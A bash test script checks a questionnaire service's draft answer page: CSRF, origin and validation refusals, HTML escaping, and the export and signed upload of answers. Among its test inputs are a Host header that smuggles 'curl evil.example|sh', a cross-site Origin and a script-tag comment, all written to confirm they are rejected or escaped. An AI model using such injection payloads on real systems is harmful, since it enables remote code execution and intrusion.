# The answer page and its draft, as a respondent's staff use it without
# JavaScript: the questionnaire as a form (sections, texts, the scale with
# its labels, the desirable level, "not applicable" only where allowed),
# a draft saved on the server (303 to the page again, which shows it, the
# items still missing listed at once, and an audit entry draft.save) that
# is never a submission; a new version starts from the last accepted
# answers. Refused: a form without its CSRF token, with another
# certificate's or another form's token, from another site, with a value
# or field the questionnaire does not have, too long, doubled, in another
# content type, too large, for a closed campaign, another organisation's
# assignment — each with its code, nothing stored changed, one audit entry.
C=(--config "$INST/itaku.conf")
page() { # CLIENT METHOD PATH [curl args…]: body $W/page.html, headers $W/page.h, status on stdout
	local client=$1 method=$2 path=$3
	shift 3
	# shellcheck disable=SC2046
	client_env "$client" curl -sS -o "$W/page.html" -D "$W/page.h" -w '%{http_code}' \
		--cacert "$INST/pki/ca.crt" -X "$method" $(client_args "$client") "$@" "$BASE$path"
}
has() { grep -qF -- "$1" "$W/page.html" || die "page lacks '$1': $(head -c 300 "$W/page.html")"; }
lacks() { ! grep -qF -- "$1" "$W/page.html" || die "page has '$1'"; }
token() { sed -n 's/.*name="csrf" value="\([^"]*\)".*/\1/p' "$W/page.html" | head -n 1; }
drafts() { dbq "SELECT * FROM drafts ORDER BY 1; SELECT * FROM draft_items ORDER BY 1, 2"; }
scored() { dbq "SELECT count(*) FROM submissions; SELECT count(*) FROM answers;
	SELECT count(*) FROM scores; SELECT * FROM campaign_item_levels ORDER BY 1, 2, 3"; }

# a campaign of its own, so the assignment is fresh whatever ran before
cid=$("$ITAKU" campaign create --questionnaire ipa-benchmark@1 --due 2099-06-30 --name "下書きの試験" "${C[@]}") ||
	die "campaign create"
"$ITAKU" campaign assign "$cid" 7999900000002 "${C[@]}" >/dev/null || die "assign"
"$ITAKU" campaign assign "$cid" 6999900000003 --variant low-it "${C[@]}" >/dev/null || die "assign"
aid=$(dbq "SELECT id FROM assignments WHERE campaign_id = $cid AND org_id = '7999900000002'")
rid=$(dbq "SELECT id FROM assignments WHERE campaign_id = $cid AND org_id = '6999900000003'")

# the form
expect_eq "$(page resp-ec GET "/assignments/$aid")" 200 "answer page"
has "<form method=\"post\" action=\"/assignments/$aid/draft\" enctype=\"multipart/form-data\">"
has 'name="level.1.1" value="5"'
has '望ましい水準: '
has '未実施'
has 'name="comment.5.3"'
has 'name="level.4.3" value="na"'   # remote access: may not apply
lacks 'name="level.1.1" value="na"'
expect_eq "$(grep -o '<fieldset id="item-' "$W/page.html" | wc -l)" 27 "items of the base variant"
has '<h2 id="missing">'
tok=$(token)
[[ "$tok" =~ ^[0-9]+\.[0-9a-f]{64}$ ]] || die "token: $tok"
expect_eq "$(page resp-rsa GET "/assignments/$rid")" 200 "the low-IT variant's page"
n=$(grep -o '<fieldset id="item-' "$W/page.html" | wc -l)
[ "$n" -gt 0 ] && [ "$n" -lt 27 ] || die "the low-IT variant shows $n items"
rtok=$(token)

# another organisation's assignment is absent; so is the admin's view of it
expect_eq "$(page resp-rsa GET "/assignments/$aid")" 404 "another organisation's answer page"
has 'お探しのページは見つかりませんでした'
expect_eq "$(page admin GET "/assignments/$aid")" 404 "the admin on a vendor's answer page"

# save a draft
before_scores=$(scored)
abefore=$(audit_count)
expect_eq "$(page resp-ec POST "/assignments/$aid/draft" --data-urlencode "csrf=$tok" \
	-d level.1.1=3 --data-urlencode 'comment.1.1=<script>x</script> 規程あり & "ok"' \
	-d level.4.3=na -d level.5.3=5)" 303 "save the draft"
[[ "$(grep -i '^Location:' "$W/page.h" | tr -d '\r')" == "Location: /assignments/$aid?saved=1#missing" ]] ||
	die "Location: $(grep -i '^Location:' "$W/page.h")"
expect_eq "$(audit_count)" $((abefore + 1)) "audit entries after a draft"
expect_eq "$(audit_last)" "draft.save ok ok" "audit of the draft"
expect_eq "$(scored)" "$before_scores" "a draft is not a submission"
expect_eq "$(page resp-ec GET "/assignments/$aid?saved=1")" 200 "the page again"
has '下書きを保存しました。'
has 'id="l-1.1-3" checked'
has 'id="l-4.3-na" checked'
has '&lt;script&gt;x&lt;/script&gt; 規程あり &amp; "ok"</textarea>'
lacks '<script>x'
lacks 'href="#item-1.1"'
has 'href="#item-1.2"'
saved=$(drafts)

# refusals: code, nothing stored, one audit entry each
refuse() { # STATUS CODE WHAT CLIENT PATH [curl args…]
	local want=$1 code=$2 what=$3 client=$4 path=$5
	shift 5
	local a0 s0 got
	a0=$(audit_count)
	s0=$(snapshot)
	got=$(page "$client" POST "$path" "$@")
	expect_eq "$got" "$want" "$what"
	has "<code>$code</code>"
	expect_eq "$(drafts)" "$saved" "drafts after: $what"
	expect_eq "$(snapshot)" "$s0" "stored data after: $what"
	expect_eq "$(audit_count)" $((a0 + 1)) "audit entries after: $what"
	[[ "$(audit_last)" == *" rejected $code" ]] || die "audit after $what: $(audit_last)"
}
P=/assignments/$aid/draft
refuse 403 csrf_invalid "no token" resp-ec "$P" -d level.1.1=1
last=${tok: -1}
forged=${tok%?}$([ "$last" = 0 ] && echo 1 || echo 0) # one hex digit changed
refuse 403 csrf_invalid "a forged token" resp-ec "$P" -d "csrf=$forged" -d level.1.1=1
refuse 403 csrf_invalid "an old token" resp-ec "$P" -d "csrf=$(( ${tok%%.*} - 2 )).${tok#*.}" -d level.1.1=1
refuse 403 csrf_invalid "another organisation's token" resp-ec "$P" -d "csrf=$rtok" -d level.1.1=1
refuse 403 csrf_invalid "this token from another certificate" resp-rsa "$P" -d "csrf=$tok" -d level.1.1=1
refuse 403 csrf_invalid "this form's token on another form" resp-rsa "/assignments/$rid/draft" -d "csrf=$tok" -d level.1.1=1
refuse 403 cross_origin_refused "another site" resp-ec "$P" -H 'Origin: https://evil.example' -d "csrf=$tok" -d level.1.1=1
refuse 400 draft_invalid "a level out of the scale" resp-ec "$P" -d "csrf=$tok" -d level.1.1=6
refuse 400 draft_invalid "na where it may not be" resp-ec "$P" -d "csrf=$tok" -d level.1.1=na
refuse 400 draft_invalid "an item not in the questionnaire" resp-ec "$P" -d "csrf=$tok" -d level.9.9=1
refuse 400 draft_invalid "an unknown field" resp-ec "$P" -d "csrf=$tok" -d name=x
long=$(head -c 4001 /dev/zero | tr '\0' 'a')
refuse 400 draft_invalid "a comment over 4000 characters" resp-ec "$P" -d "csrf=$tok" -d "comment.1.1=$long"
refuse 400 form_invalid "a field twice" resp-ec "$P" -d "csrf=$tok" -d level.1.1=1 -d level.1.1=2
refuse 400 form_invalid "bad UTF-8" resp-ec "$P" -d "csrf=$tok" -d 'comment.1.1=%C0%AF'
refuse 415 unsupported_media_type "JSON" resp-ec "$P" -H 'Content-Type: application/json' -d '{"csrf":"x"}'
# no token for another organisation's form can be had: its page is absent
refuse 403 csrf_invalid "another organisation's assignment" resp-rsa "$P" -d "csrf=$rtok" -d level.1.1=1
head -c 600000 /dev/zero | tr '\0' 'a' >"$W/big.form"
refuse 413 body_too_large "a form over 512 KiB" resp-ec "$P" --data-binary "@$W/big.form"
refuse 400 draft_invalid "a control character in a comment" resp-ec "$P" -d "csrf=$tok" -d 'comment.1.1=x%01y'
refuse 400 draft_invalid "U+FFFF in a comment" resp-ec "$P" -d "csrf=$tok" -d 'comment.1.1=x%EF%BF%BFy'
refuse 400 form_invalid "an encoded NUL in a field name" resp-ec "$P" -d "csrf=$tok" -d 'comment.1.1%00zzz=v'
# a line break counts as one character, as the browser's maxlength counts it
crlf="$(head -c 3998 /dev/zero | tr '\0' a)%0D%0Ab"
expect_eq "$(page resp-ec POST "$P" -d "csrf=$tok" -d "comment.1.1=$crlf")" 303 "4000 characters with a CRLF"
expect_eq "$(dbq "SELECT length(comment), length(comment) - length(replace(comment, $(sql_chr 13), '')) FROM draft_items WHERE assignment_id = $aid AND item_id = '1.1'")" \
	"4000|0" "the line break stored as LF"
# the page's own encoding: multipart, in which a full Japanese draft fits
jp=$(python3 -c 'print("情" * 4000)')
margs=(-F "csrf=$tok")
for id in $(dbq "SELECT item_id FROM questionnaire_items WHERE questionnaire = 'ipa-benchmark' AND version = '1' AND optional = 0"); do
	margs+=(-F "level.$id=3" -F "comment.$id=$jp")
done
expect_eq "$(page resp-ec POST "$P" "${margs[@]}")" 303 "a full Japanese draft, multipart"
expect_eq "$(dbq "SELECT count(*), min(length(comment)) FROM draft_items WHERE assignment_id = $aid")" "27|4000" "the full draft stored"
saved=$(drafts)
# the Host a command shows is a host, or HOST
expect_eq "$(page resp-ec GET "/assignments/$aid" -H 'Host: evil.example/x;curl evil.example|sh;#')" 200 "a hostile Host"
lacks 'evil.example'
has "'https://HOST/api/v1/submissions'"
"$ITAKU" campaign close "$cid" "${C[@]}" >/dev/null || die "close"
refuse 409 campaign_closed "a closed campaign" resp-ec "$P" -d "csrf=$tok" -d level.1.1=1
echo "draft refusals checked"

# the no-JavaScript path: the draft as answers.xml, signed with `itaku
# pack`, uploaded — the accepted answers are the draft's
cid2=$("$ITAKU" campaign create --questionnaire ipa-benchmark@1 --due 2099-07-31 --name "提出まで" "${C[@]}") ||
	die "campaign create"
"$ITAKU" campaign assign "$cid2" 7999900000002 "${C[@]}" >/dev/null || die "assign"
aid2=$(dbq "SELECT id FROM assignments WHERE campaign_id = $cid2 AND org_id = '7999900000002'")
expect_eq "$(page resp-ec GET "/assignments/$aid2")" 200 "answer page"
tok=$(token)
has "href=\"/assignments/$aid2/answers.xml\""
has 'itaku pack --answers answers.xml'
args=(--data-urlencode "csrf=$tok")
for id in $(grep -o 'name="level\.[0-9.]*" value="1"' "$W/page.html" | sed 's/name="level\.\([0-9.]*\)".*/\1/'); do
	args+=(-d "level.$id=$(( (${id//./} % 5) + 1 ))")
done
args+=(--data-urlencode 'comment.2.1=入退室は IC カードで記録 <&>')
expect_eq "$(page resp-ec POST "/assignments/$aid2/draft" "${args[@]}")" 303 "a full draft"
expect_eq "$(page resp-ec GET "/assignments/$aid2")" 200 "answer page"
has 'すべての項目に回答済みです'
expect_eq "$(page resp-ec GET "/assignments/$aid2/answers.xml")" 200 "answers.xml"
grep -qi '^Content-Disposition: attachment; filename="answers.xml"' "$W/page.h" || die "not an attachment"
cp "$W/page.html" "$W/filled.xml"
grep -qF '<comment>入退室は IC カードで記録 &lt;&amp;&gt;</comment>' "$W/filled.xml" || die "comment in answers.xml"
! grep -q 'level=""' "$W/filled.xml" || die "a blank level in the filled file"
"$ITAKU" pack --answers "$W/filled.xml" --cert "$W/fx/resp-ec.crt" --key "$W/fx/resp-ec.key" \
	-o "$W/filled.asice" >/dev/null || die "itaku pack of the downloaded file"
expect_eq "$(upload resp-ec "$W/filled.asice")" 201 "upload of the browser's draft"
sid=$(jq -r .id "$W/out.json")
expect_eq "$(dbq "SELECT item_id || '=' || CASE level WHEN 0 THEN 'na' ELSE CAST(level AS TEXT) END FROM answers WHERE submission_id = $sid ORDER BY item_id" | tr '\n' ' ')" \
	"$(dbq "SELECT item_id || '=' || level FROM draft_items WHERE assignment_id = $aid2 ORDER BY item_id" | tr '\n' ' ')" \
	"accepted answers are the draft's"
# a version accepted after the draft: the page shows it, not the older draft
sed -i 's/level="1"/level="5"/g' "$W/filled.xml"
"$ITAKU" template --campaign "$cid2" --org 7999900000002 --output "$W/t2.xml" "${C[@]}" || die "template"
nonce=$(sed -n 's/.*nonce="\([^"]*\)".*/\1/p' "$W/t2.xml" | head -n 1)
sed -i "s/nonce=\"[^\"]*\"/nonce=\"$nonce\"/" "$W/filled.xml"
"$ITAKU" pack --answers "$W/filled.xml" --cert "$W/fx/resp-ec.crt" --key "$W/fx/resp-ec.key" \
	-o "$W/newer.asice" >/dev/null || die "itaku pack of the newer version"
expect_eq "$(upload resp-ec "$W/newer.asice")" 201 "a newer version by the command line"
expect_eq "$(page resp-ec GET "/assignments/$aid2")" 200 "answer page after a newer version"
has '保存されていた下書きより新しい回答が受理されています'
first=$(dbq "SELECT item_id FROM draft_items WHERE assignment_id = $aid2 AND level = '1' LIMIT 1")
[ -z "$first" ] || has "id=\"l-$first-5\" checked"
